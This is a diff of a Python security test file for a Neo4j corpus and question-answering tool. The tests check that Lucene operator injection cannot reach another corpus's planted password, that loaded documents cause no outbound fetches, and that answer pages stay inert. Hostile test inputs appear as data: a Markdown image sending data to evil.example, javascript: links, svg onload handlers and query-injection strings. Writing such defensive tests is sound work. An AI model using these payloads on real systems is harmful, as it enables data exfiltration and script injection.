@@ -16,7 +16,6 @@ from graphs import rows
 
 import kgp_neo4j
 from kgp_neo4j import Corpus
-from kgp_neo4j.corpus.load.delete import delete_corpus
 from kgp_neo4j.graphdb.database import Database
 from kgp_neo4j.mindmap.answer.ask_graph import ask_graph
 from kgp_neo4j.mindmap.load.graphs import delete_graph
@@ -84,28 +83,25 @@ def test_labels_and_properties_are_looked_up_before_they_are_used(
         adopt_graph(database, "test-attacks", labels=["Corpus"], name_property=way)
 
 
-def test_a_question_is_searched_for_and_nothing_else(database: Database, tmp_path: Path) -> None:
+def test_a_question_is_searched_for_and_nothing_else(
+    database: Database, corpus: str, other_corpus: str, tmp_path: Path
+) -> None:
     """Lucene's operators in a question reached documents of others, or broke the search."""
-    mine, other = "test attacks mine", "test attacks other"
+    mine, other = (Corpus(name, database=database) for name in (corpus, other_corpus))
     operators = (
         "scope:* OR text:*",
         "* AND NOT (a) +b -c && d || !e [a TO z] {x TO *} ~2 ^9 /.*/ \\",
         '"unclosed AND (',
     )
-    try:
-        for name, text in ((mine, "The ferry sank."), (other, "The password is hunter2, x y z.")):
-            (tmp_path / "d.txt").write_text(text)
-            corpus = Corpus(name, database=database)
-            corpus.load([tmp_path / "d.txt"])
-            corpus.connect()
-        for question in (*_WAYS_OUT, *operators):
-            answer = Corpus(mine, database=database).ask(question)
-            assert "hunter2" not in answer.text
-            assert {passage.text for passage in answer.passages} <= {"The ferry sank."}
-        assert len(Corpus(other, database=database).passages()) == 1
-    finally:
-        for name in (mine, other):
-            delete_corpus(database, name)
+    for made, text in ((mine, "The ferry sank."), (other, "The password is hunter2, x y z.")):
+        (tmp_path / "d.txt").write_text(text)
+        made.load([tmp_path / "d.txt"])
+        made.connect()
+    for question in (*_WAYS_OUT, *operators):
+        answer = mine.ask(question)
+        assert "hunter2" not in answer.text
+        assert {passage.text for passage in answer.passages} <= {"The ferry sank."}
+    assert len(other.passages()) == 1
 
 
 # --- Documents ------------------------------------------------------------------------------------
@@ -132,7 +128,7 @@ def _word(template: str = "", doctype: str = "") -> bytes:
 
 
 def test_no_document_makes_us_ask_an_address_or_read_a_file(
-    database: Database, address: tuple[str, list[bytes]], tmp_path: Path
+    database: Database, corpus: str, address: tuple[str, list[bytes]], tmp_path: Path
 ) -> None:
     """Pictures, entities and frames of documents were fetched by the server that read them.
 
@@ -160,18 +156,15 @@ def test_no_document_makes_us_ask_an_address_or_read_a_file(
     }
     for name, text in documents.items():
         (folder / name).write_bytes(text if isinstance(text, bytes) else text.encode())
-    corpus = Corpus("test attacks fetching", database=database)
-    try:
-        report = corpus.load([folder])
-        assert report.documents >= 5
-        assert "hunter2" not in repr(corpus.passages())
-    finally:
-        corpus.delete()
+    made = Corpus(corpus, database=database)
+    report = made.load([folder])
+    assert report.documents >= 5
+    assert "hunter2" not in repr(made.passages())
     assert asked == []
 
 
 def test_a_page_shows_what_documents_say_and_runs_none_of_it(
-    database: Database, tmp_path: Path
+    database: Database, corpus: str, tmp_path: Path
 ) -> None:
     """Markup, links and pictures in documents and answers carried data out of chat pages."""
     hostile = (
@@ -179,13 +172,10 @@ def test_a_page_shows_what_documents_say_and_runs_none_of_it(
         "![x](http://evil.example/?d=1) [a](javascript:alert(1)) </style><svg onload=alert(1)>"
     )
     (tmp_path / "d.txt").write_text(hostile)
-    corpus = Corpus("test attacks page", database=database)
-    try:
-        corpus.load([tmp_path / "d.txt"])
-        corpus.connect()
-        page = answer_page(corpus.ask("What sank?"))
-    finally:
-        corpus.delete()
+    made = Corpus(corpus, database=database)
+    made.load([tmp_path / "d.txt"])
+    made.connect()
+    page = answer_page(made.ask("What sank?"))
     assert "The ferry" in page
     for live in ("<img src=x", "<script>alert", "<svg onload", 'src="http', 'href="javascript'):
         assert live not in page
